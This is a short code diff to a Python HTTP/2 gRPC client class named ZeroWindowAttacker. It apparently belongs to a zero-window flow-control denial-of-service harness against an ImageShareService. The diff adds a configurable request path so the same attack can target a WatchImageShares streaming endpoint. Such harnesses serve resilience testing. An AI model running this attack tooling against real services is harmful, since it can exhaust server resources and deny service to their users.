@@ -16,6 +16,7 @@ import h2.settings
 from imageshare.v1 import image_share_pb2
 
 LIST_PATH = "/imageshare.v1.ImageShareService/ListImageShares"
+WATCH_PATH = "/imageshare.v1.ImageShareService/WatchImageShares"
 
 
 def grpc_frame(message: bytes) -> bytes:
@@ -40,6 +41,7 @@ class ZeroWindowAttacker:
         region_id: str = "cn-hangzhou",
         image_id: str = "m-demo0000001",
         body: bytes | None = None,
+        path: str = LIST_PATH,
     ) -> None:
         self.sock = socket.create_connection((host, port))
         config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
@@ -62,7 +64,7 @@ class ZeroWindowAttacker:
         headers = [
             (":method", "POST"),
             (":scheme", "http"),
-            (":path", LIST_PATH),
+            (":path", path),
             (":authority", f"{host}:{port}"),
             ("content-type", "application/grpc"),
             ("te", "trailers"),
